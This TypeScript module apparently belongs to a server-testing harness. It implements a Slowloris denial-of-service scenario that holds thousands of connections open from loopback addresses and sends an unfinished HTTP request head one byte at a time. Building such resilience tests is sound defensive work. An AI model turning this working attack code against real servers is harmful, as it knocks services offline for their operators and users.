// Slowloris: opens many connections and sends a request head that never ends, one byte at a time. It costs the attacker
// next to nothing and takes a slot of every server that gives each connection one. One byte of a single header per drip
// rather than a header per drip, so that limits on the number of headers never end it: only a deadline does.
//
// What it cannot tell: the kernel completes handshakes by itself, so a connection that waits in the listen queue and was
// never accepted by the application counts as opened and held like any other.
import { defineHostile } from '../../core/contracts.ts'
import { count, number } from '../../core/parameters.ts'
import { HeldConnections, loopbackAddresses } from '../held-connections.ts'

export default defineHostile({
  about: 'Opens connections and sends a request head that never ends, one byte at a time.',
  source: 'RSnake 2009, Slowloris HTTP DoS; CAPEC-469',
  params: {
    connectionsPerSecond: number({ default: 300, min: 1, max: 20_000, unit: '1/s', doc: 'openings, replacements too' }),
    addresses: count({ default: 50, min: 1, max: 250, unit: 'addresses', doc: 'sources, 127.0.1.1 and up' }),
    maxHeld: count({ default: 9000, min: 1, max: 50_000, unit: 'connections', doc: 'held at once' }),
    dripMs: number({ default: 500, min: 1, max: 600_000, unit: 'ms', doc: 'between two bytes of one connection' }),
  },
  start({ connectionsPerSecond, addresses, maxHeld, dripMs }, context) {
    const plan = { addresses: loopbackAddresses(1, addresses), connectionsPerSecond, maxHeld, replaced: true }
    const beginning = `GET / HTTP/1.1\r\nhost: ${context.host}:${context.port}\r\nx-slow: `
    return new HeldConnections(context, plan, {
      turnMs: dripMs,
      begin: socket => void socket.write(beginning, 'latin1'),
      onTurn: socket => void socket.write('a', 'latin1'),
      // Any answer, a 408 for one, means that the server has given up on the head.
      onBytes: () => false,
    })
  },
})
